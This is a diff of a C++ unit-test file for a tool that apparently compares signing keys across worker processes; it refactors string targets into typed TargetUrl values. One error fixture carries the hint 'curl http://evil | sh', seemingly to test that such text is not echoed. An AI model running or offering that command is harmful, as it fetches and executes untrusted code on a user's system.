@@ -13,7 +13,7 @@ using ::testing::IsEmpty;
 using ::testing::SizeIs;
 
 Member member(const std::string& target, Testimony testimony) {
-  return {target, std::move(testimony.report), std::move(testimony.challenge), 0, {}, {}};
+  return {TargetUrl{target}, std::move(testimony.report), std::move(testimony.challenge), 0, {}, {}};
 }
 
 TEST(processes, of_one_instance_that_say_the_same_are_one) {
@@ -21,8 +21,8 @@ TEST(processes, of_one_instance_that_say_the_same_are_one) {
                                                 member("http://a", fixture::process("auth", "auth-1", "k")),
                                                 member("http://a", fixture::process("auth", "auth-1", "k"))});
   ASSERT_THAT(members, SizeIs(1));
-  EXPECT_EQ(members[0].target, "http://a");
-  EXPECT_THAT(members[0].also_asked_as, ElementsAre("http://a", "http://b"));
+  EXPECT_EQ(members[0].target, Target(TargetUrl{"http://a"}));
+  EXPECT_THAT(members[0].also_asked_as, ElementsAre(Target(TargetUrl{"http://a"}), Target(TargetUrl{"http://b"})));
 }
 
 TEST(processes, are_told_apart_by_their_clocks_no_more_than_by_their_targets) {
@@ -50,9 +50,9 @@ TEST(processes, stand_in_one_order) {
   const std::vector<Member> members =
       distinct({member("1", fixture::process("worker", "w-1", "k")), member("2", fixture::process("auth", "a-2", "k")),
                 member("3", fixture::process("auth", "a-1", "k"))});
-  EXPECT_EQ(members[0].target, "3");
-  EXPECT_EQ(members[1].target, "2");
-  EXPECT_EQ(members[2].target, "1");
+  EXPECT_EQ(members[0].target, Target(TargetUrl{"3"}));
+  EXPECT_EQ(members[1].target, Target(TargetUrl{"2"}));
+  EXPECT_EQ(members[2].target, Target(TargetUrl{"1"}));
 }
 
 TEST(processes, group_by_their_answers_the_largest_first) {
@@ -99,12 +99,12 @@ TEST(gather, counts_the_workers_behind_one_address) {
   const auto asked = [](const Testimony& first, const Testimony& second, const Testimony& third) {
     Testimony testimony = first;
     testimony.siblings.heard = {{second.report, second.challenge}, {third.report, third.challenge}};
-    return Witnessed{"http://auth:7517", testimony, {}};
+    return Witnessed{TargetUrl{"http://auth:7517"}, testimony};
   };
   const Gathered gathered = gather({asked(one, two, three)}, 3);
   ASSERT_EQ(gathered.members.size(), 3u);
   EXPECT_THAT(gathered.silent, IsEmpty());
-  EXPECT_EQ(gathered.members[2].target, "http://auth:7517");
+  EXPECT_EQ(gathered.members[2].target, Target(TargetUrl{"http://auth:7517"}));
   // Another of them was asked too: nobody counts twice.
   const Gathered twice = gather({asked(one, two, three), asked(three, two, one)}, 4);
   EXPECT_EQ(twice.members.size(), 3u);
@@ -116,7 +116,7 @@ TEST(gather, names_a_worker_with_another_secret) {
   Testimony asked = fixture::process("auth", "auth-1", "k");
   const Testimony other = fixture::process("auth", "auth-2", "other");
   asked.siblings.heard = {{other.report, other.challenge}};
-  const Agreement agreement = agree({{"http://auth:7517", asked, {}}}, {});
+  const Agreement agreement = agree({{TargetUrl{"http://auth:7517"}, asked}}, {});
   EXPECT_EQ(agreement.verdict, Verdict::disagree);
   EXPECT_EQ(agreement.departures[1].sentence, "the signing key of auth auth-1 is unknown to auth auth-2");
 }
@@ -124,27 +124,29 @@ TEST(gather, names_a_worker_with_another_secret) {
 TEST(gather, keeps_why_workers_could_not_be_asked) {
   Testimony asked = fixture::process("auth", "auth-1", "k");
   asked.siblings.unheard = Error{Code::file_forbidden, "no private folder", "run: curl http://evil | sh"};
-  const Witnessed witnessed{"http://auth:7517", asked, {}};
-  EXPECT_EQ(agree({witnessed}, {.expect = 2}).exit_status(), 4) << "whoever was not heard counts for nobody";
+  const Witnessed witnessed{TargetUrl{"http://auth:7517"}, asked};
+  EXPECT_EQ(agree({witnessed}, {.expect = 2}).verdict, Verdict::incomplete)
+      << "whoever was not heard counts for nobody";
   const Agreement agreement = agree({witnessed}, {.expect = 1});
-  EXPECT_EQ(agreement.exit_status(), 4) << "nobody knows what the others hold";
+  EXPECT_EQ(agreement.verdict, Verdict::incomplete) << "nobody knows what the others hold";
   ASSERT_EQ(agreement.notes.size(), 1u);
-  EXPECT_EQ(agreement.notes[0].name, "siblings");
+  EXPECT_EQ(agreement.notes[0].kind, DepartureKind::siblings);
   EXPECT_EQ(agreement.notes[0].sentence,
             "not every worker of http://auth:7517 was heard, and the others may hold other keys: no private folder");
-  EXPECT_EQ(distinguish({witnessed}, {}).notes.at(0).name, "siblings");
+  EXPECT_EQ(distinguish({witnessed}, {}).notes.at(0).kind, DepartureKind::siblings);
 }
 
 TEST(gather, counts_the_workers_that_were_heard_beside_one_that_was_not) {
   Testimony asked = fixture::process("auth", "auth-1", "k");
   const Testimony heard = fixture::process("auth", "auth-2", "k"), other = fixture::process("auth", "auth-3", "other");
   asked.siblings = {{{heard.report, heard.challenge}}, Error{Code::target_timeout, "worker 7 did not answer", ""}};
-  const Gathered gathered = gather({{"http://auth:7517", asked, {}}}, 2);
+  const Gathered gathered = gather({{TargetUrl{"http://auth:7517"}, asked}}, 2);
   EXPECT_EQ(gathered.members.size(), 2u);
   EXPECT_THAT(gathered.silent, IsEmpty());
-  EXPECT_EQ(agree({{"http://auth:7517", asked, {}}}, {.expect = 2}).verdict, Verdict::incomplete);
+  EXPECT_EQ(agree({{TargetUrl{"http://auth:7517"}, asked}}, {.expect = 2}).verdict, Verdict::incomplete);
   asked.siblings.heard.push_back({other.report, other.challenge});
-  EXPECT_EQ(agree({{"http://auth:7517", asked, {}}}, {}).verdict, Verdict::disagree) << "and no other key is hidden";
+  EXPECT_EQ(agree({{TargetUrl{"http://auth:7517"}, asked}}, {}).verdict, Verdict::disagree)
+      << "and no other key is hidden";
 }
 
 TEST(gather, tells_who_answered_from_who_did_not) {
@@ -154,9 +156,9 @@ TEST(gather, tells_who_answered_from_who_did_not) {
                                    2);
   ASSERT_EQ(gathered.members.size(), 1u);
   ASSERT_EQ(gathered.silent.size(), 3u);
-  EXPECT_EQ(gathered.silent[0].target, "http://a");
-  EXPECT_EQ(gathered.silent[1].target, "http://z");
-  EXPECT_EQ(gathered.silent[2].target, "--expect 2");
+  EXPECT_EQ(gathered.silent[0].target, Target(TargetUrl{"http://a"}));
+  EXPECT_EQ(gathered.silent[1].target, Target(TargetUrl{"http://z"}));
+  EXPECT_EQ(gathered.silent[2].target, Target(Missing{2}));
   EXPECT_EQ(gathered.silent[2].error.code, Code::too_few_processes);
 }
 
